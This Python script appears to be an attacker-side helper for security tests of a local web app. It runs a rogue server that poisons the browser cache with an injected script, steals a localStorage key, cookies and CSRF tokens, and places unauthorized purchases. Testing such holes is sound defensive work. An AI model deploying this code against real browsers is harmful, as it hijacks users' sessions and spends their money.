"""A second account of the machine that listens where the owner's browser comes by.

Called with a host, a port, and what to do; as root it becomes ``nobody`` first. Prints a line for
each thing that it got. Only the standard library.

- ``cache``: gives the page's own path of a script a script of its own, to be kept for a year.
- ``boot``: the same, and says by ``/events`` that the server was started again.
- ``ticket``: uses each address with a ticket that a browser asks it for, and buys.
- ``key``: asks a browser for what ``localStorage`` keeps, and buys with it and its cookie.
"""

import encodings.idna  # noqa: F401 - looked for later, and not to be read then
import http.client
import os
import re
import socket
import sys
import urllib.parse
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

NOBODY = 65534
HOST, PORT, WHAT = sys.argv[1], int(sys.argv[2]), sys.argv[3]

BUY = """
const buy = async (key) => {
  const html = await (await fetch("/generate")).text();
  const once = /name="once" value="([^"]+)"/.exec(html)[1];
  const body = new URLSearchParams({once, prompt: "stolen by WHAT", orientation: "16:9",
                                    duration: "10", budget: "5"});
  await fetch("/generate", {method: "POST", headers: {"X-CSRF-Token": key}, body});
};
""".replace("WHAT", WHAT)
PLANTS = '<script src="/static/app.js"></script><script>fetch("/planted")</script>'
PAGE = {
    "cache": PLANTS,
    "boot": PLANTS,
    "key": "<script>fetch('/key/' + localStorage.getItem('batchsora-key'))</script>",
    "ticket": "",
}[WHAT]
SCRIPT = BUY + 'const key = localStorage.getItem("batchsora-key"); if (key) buy(key);'


def say(text: str) -> None:
    sys.stdout.write(f"{text}\n")
    sys.stdout.flush()


def ask(
    method: str, path: str, headers: dict[str, str], body: str | None = None
) -> tuple[int, str, str]:
    """Ask the real page, by the other address of this machine."""
    connection = http.client.HTTPConnection("127.0.0.1", PORT, timeout=30)
    connection.request(method, path, body, {"Host": f"localhost:{PORT}", **headers})
    answer = connection.getresponse()
    return (
        answer.status,
        answer.headers.get("Set-Cookie", "").partition(";")[0],
        answer.read().decode(),
    )


def buy(cookie: str, key: str) -> None:
    _, _, text = ask("GET", "/generate", {"Cookie": cookie})
    once = re.findall(r'name="once" value="([^"]+)"', text)[0]
    form = {
        "once": once,
        "prompt": f"stolen by {WHAT}",
        "orientation": "16:9",
        "duration": "10",
        "budget": "5",
    }
    headers = {
        "Cookie": cookie,
        "X-CSRF-Token": key,
        "Content-Type": "application/x-www-form-urlencoded",
    }
    status, _, _ = ask("POST", "/generate", headers, urllib.parse.urlencode(form))
    say(f"bought {status}")


class Handler(BaseHTTPRequestHandler):
    """Answers as the page would, and with what is planted."""

    protocol_version = "HTTP/1.1"

    def log_message(self, *_: object) -> None:
        pass

    def do_GET(self) -> None:
        say(f"asked {self.path}")
        kind, body, cache = "text/html", f"<!doctype html>{PAGE}", "no-store"
        if self.path == "/healthz":
            kind, body = "application/json", '{"status": "ok"}'
        elif self.path == "/events" and WHAT == "boot":
            kind, body = "text/event-stream", 'event: changed\ndata: {"boot": "another"}\n\n'
        elif self.path == "/events":
            self.send_error(401)
            return
        elif self.path == "/static/app.js":
            kind, body, cache = "text/javascript", SCRIPT, "max-age=31536000, immutable"
        elif self.path == "/planted":
            say("planted")
        elif self.path.startswith("/enter/") and WHAT == "ticket":
            _, cookie, text = ask("GET", self.path, {})
            if found := re.findall(r'data-key="(\w+)"', text):
                say(f"inside as uid {os.geteuid()}")
                buy(cookie, found[0])
        elif self.path.startswith("/key/"):
            buy(self.headers.get("Cookie", ""), self.path.rpartition("/")[2])
        data = body.encode()
        self.send_response(200)
        for name, value in (
            ("Content-Type", kind),
            ("Cache-Control", cache),
            ("Content-Length", str(len(data))),
        ):
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(data)


class Server(ThreadingHTTPServer):
    """Listens on one address alone, of either kind."""

    address_family = socket.AF_INET6 if ":" in HOST else socket.AF_INET
    daemon_threads = True

    def server_bind(self) -> None:
        if ":" in HOST:
            self.socket.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
        super().server_bind()


if os.geteuid() == 0:
    os.setgroups([])
    os.setresgid(NOBODY, NOBODY, NOBODY)
    os.setresuid(NOBODY, NOBODY, NOBODY)
with Server((HOST, PORT), Handler) as server:
    say(f"listens as uid {os.geteuid()}")
    server.serve_forever()
